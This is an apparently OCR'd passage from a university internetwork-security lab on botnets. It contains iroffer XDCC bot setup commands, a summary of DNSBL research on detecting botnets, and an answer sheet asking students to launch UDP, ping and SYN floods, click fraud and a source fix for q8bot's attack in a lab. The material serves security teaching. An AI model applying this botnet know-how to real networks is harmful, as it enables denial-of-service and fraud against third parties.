connect to the IRC bots listed in the search results and download their files.Screenshot 1: Screenshot of XDCC “Packs”

Question 1: List one other xdcc search engine and explain how they work (hint search google).
Any search engines returned by are fine

(IRCspy, IRCDig, XDCCspy, etc...). The search engines literally troll different IRC channels
and wait for XDCC bots to announce their files.

Exercise _.2: Installing and Configuring iroffer

Iroffer is a standalone XDCC bot written in C that supports both Windows and Linux. In this lab
we will install the linux version. This program is freely distributed on the internet and can be
downloaded from Please note that normally
this program is installed using a rootkit which isn't covered in the scope of this lab.

Download the program to your RedHat 7.2 machine and extract it using the command:
$ tar -zxf iroffer1.3.b11.tgz

Change into the directory (cd iroffer1.3.b09) and then install using:
$ ./Configure (note uppercase c)$ make
$ make install

Once installed successfully, we must configure the system.

First we must create a unique password to do this enter:
$ ./iroffer -c

Enter a password and keep the encrypted one it displays.

Then copy the sample configuration file and rename it to mybot.config:
$ cp sample.config mybot.config

Then open mybot.config in the text editor. You need to edit the server and channel information.
The following changes need to be made.adminpass add_your_encrypted_password_here -> adminpass “The password you generated”
server -> server "Insert IRC Server IP here" 6668
#channel #chan01 -> channel #ece4112

Once this is done run:
$ ./iroffer -b mybot.config

Question 2: What does the -b stand for in the previous command (hint: check the documentation
on the iroffer website)?. It allows the program to run in the background.

Now that the bot is configured we can give it files to share. We will do this remotely by talking
to it from our IRC chatroom. From the RedHat WS enter:
/msg mybotDCC admin “Your unencrypted password” add sample.config

Question 3: What does the command /msg mybotDCC xdcc list return? A list of all the packs

To download this file we will need to ensure that our IRC client (XChat) has file downloading
enabled. To enable file sharing, go to “Settings/Preferences/Network/File Transfers” in XChat
and change “Auto accept file offers” to “Browse for save folder every time”. Once the settings
are changed type in the following command to download the file:
/msg mybotDCC xdcc send #1Screenshot 2: Screenshot of XDCC transfer.

Now that we are done exploring the XDCC bot we can kill it remotely by sending the command:
/msg mybotDCC admin “Your unencrypted password” shutdown now

Appendix G: DNSBL counter-intelligence – Revealing Botnets

DNSBL, or DNS Black List, is a service for mail servers to control if the sources of received e-
mails are known spammers or not. The downside of this is that the spammers use it too, to know
if the bots in their Botnet are listed or not. The activity is called Reconnaissance. This is however
something that can be used against them, and that is what the research by Anirudh
Ramachandran, Nick Feamster and David Dagon at the College of Computing here at Georgia
Tech is based upon.

The general idea is to study the query logs at the DNSBL, and from that information passively
reveal the Botnets and their members. The method is passive in the sense that the botmaster
cannot tell he is being watched. In that way he will not change his behavior to avoid getting
caught. There are other active methods to stop Botnets, but they will not be covered here.

There are three different kinds of reconnaissance techniques:

           Third party, single host. In this technique one single host in the Botnet is responsible
             for making the queries for all the other bots. It is the simplest technique to implement,
             but also the easiest to discover.
           Self-reconnaissance. This is one way to spread out the queries among the bots by
             simply letting every bot make its own queries. For obvious reasons it is not a very
             popular technique. If a mail-server doesn’t trust its own judgment if it is a bot ornot,
             then maybe the DNSBL shouldn’t trust it either.
           Distributed. Distributed reconnaissance is a better way of spreading out the queries
             among the bots. It is harder to implement, but makes it harder to discover. It means
             that several of the bots (maybe all) make queries about other bots.

As mentioned before, the whole idea of this method is to look at query logs to distinguish
legitimate queries made by real mail-servers from reconnaissance queries made by bots.
Reconnaissance queries have two major properties that differ from regular queries:

         Spatial relationship. The spatial relationship is the ratio between how many queries that
           are made by a server, and how many queries that are made about that same server. In the
           single host reconnaissance approach the number of queries made by the host will be very
           big, but the number of queries about the host will be zero. Because it’s not a real mail-
           server it will not be sending any mail, and hence there will be no queries made by others
           about it. For a real mail-server the ratio will be pretty even.

         Temporal relationship. Thetemporal relationship is decided by comparing arrival
           patterns for DNSBL queries with normal arrival patterns for e-mail. The number of
           emails arriving at different hours of the day differs in certain patterns because of office
           hours and other circumstances. Mail sent out by spam-bots will not necessarily follow the
           same patterns. Since most queries to the DNSBL are made immediately on arrival, the

       queries will follow the same patterns. This could be a way to separate the reconnaissance
       queries from legitimate ones. It is however much harder, and the methods for doing it are
       still under construction.

After the reconnaissance queries have been identified they have to be analyzed. For the single
host reconnaissance method the analysis is pretty straight forward. The query bots aredetermined by finding the hosts that have a significantly higher ratio of outgoing requests. The
other bots are found by identifying which hosts the query bot is making queries about.

For the distributed reconnaissance it gets a little bit more complicated. First a small number (10-
12) of known bots has to be identified. That could be done by using a honeynet, bots in a
DNSBL or maybe hosts that are queried by hosts in theDNSBL. Then a graph is created by
looking at all the hosts that are queried by the known bots, and also all the hosts queried by the
hosts that were queried by the bots. For all the hosts in the graph the ratio and the arrival patterns
are evaluated and correlated.

When the bots are identified the DNSBL can take actions in real time. There are two proposed
ways of doing this, but they both involve query response poisoning. The first is false negatives,
which would be to make false responses for hosts listed in the black list - saying they were not.
This would make them keep sending queries, which would reveal more bots, but it would also
make them keep sending more spam which is totally against the purpose of bot fighting.

The other way would be sending false positives, which would be to make false responses for
hosts not listed in the black list – saying they were. This would hopefully make them stop
sending spam, but it would also make them aware that they are being watched. This would
probably make them change and improve their behavior, making it harder to hunt them down.


Revealing Botnet Membership Using DNSBL Counter-Intelligence – (Ramachandran, Feamsterand Dagon, Georgia Institute of Technology, 2006)

ECE4112 Internetwork Security
                     Lab 10: Botnets Answer Sheet
Group Number: ___
Member Names: ___        ___

Date Assigned: March 28, 2006
Date Due: April 4, 2006
Last Edited: March 27, 2006

Section 2: SDBot
2.3 Meet Your Bot
Screenshot #1: Take a screenshot of the X-Chat window showing successful login and
system information printout.

Q2.1. What is the result of this command?

2.3 UDP Flood
Q2.2. What command did you use?

Q2.3. What happens if you don’t specify the port number to use for the UDP flood?

Q2.4. How many bots would be needed to flood a 1 Gbit link with UDP packets?

Q2.5: How might this attack be prevented from the perspective of the flood target? From
the perspective of the infected victim?2.4 Ping Flood
Q2.6. What command did you use?

Q2.7. How many bots would beneeded to flood a 1 Gbit link with ICMP packets?

Q2.8. From the result of the two floods, which one is more efficient: UDP or ICMP flood?

Q2.9. Based on your answer to question 2.7, when would you not use the more efficient

2.5 Fraudulent Pay-per-click Count
Screenshot #2: Take a screenshot of the tcp stream showing the source and referrer web

2.6 Bot Removal
Q.2.10. Where are the registry entries? Why are the entries placed in these two locations?

Q.2.11. How would a user know where in registry the bot is located if the source code were
not available for inspection?

Section 3: q8Bot
Q3.1. What process is listed as running using q8bot’s process id when you used ps –ef?

Q3.2. Open the bot’s source code and identify the lines responsible for this renaming. Why
does this renaming only work when the –f flag is used? (Hint: look at the other entries with
and without the –f flag. What is different about the process names displayed in the
corresponding lists?)Q3.3. Of what we have done so far, what could we have done differently to make the bot
less noticeable when not using the –f flag? (You’ve only done one thing with the bot so

Screenshot #3: Take a screenshot of the X-Chat window showing the bot successfully
joining the channel.

3.2 Using q8bot

Q3.4 List any three commands that you find there which you think might be useful to the
attacker. Which command do you think can perform great damage?Q3.5 What destination port is the attack traffic directed to?

Q3.6 Make changes to the source code so that the PAN attack can execute successfully. For
help, look at the differences between the code for pan function and the tsunami function in
the source file. List the changes that were required to get it to work.

Q3.7 What command did you issue on the irc channel to launch the PAN attack?

Screenshot #4: Take a screenshot of the ethereal capture of the PAN tcp/syn flood attack to
your WinXP virtual machine copy.

Q3.8 Can botnets be formed by relying on protocols other than IRC? If yes, give a possible
protocol that can be used.

Section 4: HoneyNet Botnet Capture Analysis
Q4.1 What ethereal filter setting will you use to view IRC connections coming to the

Q4.2 Sniff out the IRC packets in the pcap file and analyze the first few connections. You
will see login attempts by the user. What username did the user try to login with (you will
be able to find at least 2 easily)? Were the attempts successful?

Q4.3 After the user successfully gains access to the honeypot, you will see him set the mode
with the –x and +i flags. What do you think is the use of these settings?

Q4.4 What source IP(s) are theattacks coming from?

                                      General Questions
How long did it take you to complete this lab? Was it an appropriate length lab?

What corrections and/or improvements do you suggest for this lab? Please be very specific and if
you add new material give the exact wording and instructions you would give to future students
in the new lab handout. You may cross out and edit the text of the lab on previous pages to make
minor corrections/suggestions. General suggestions like add tool xyz to do more capable
scanning will not be awarded extras points even if the statement is totally true. Specific text that
could be cut and pasted into this lab, completed exercises, and completed solutions may be
awarded additional credit. Thus if tool xyz adds a capability or additional or better learning
experience for future students here is what you need to do. You should add that tool to the lab
by writing new detailed lab instructions on where to get the tool, how to install it, how to run it,
what exactly to do with it in our lab, example outputs, etc. You must prove with what you turn in
that you actually did the lab improvement yourself. Screen shots and output hardcopy are a good
way to demonstrate that you actually completed your suggestedenhancements. The lab addition
section must start with the form “laboratoryAdditions Cover Sheet”.


To top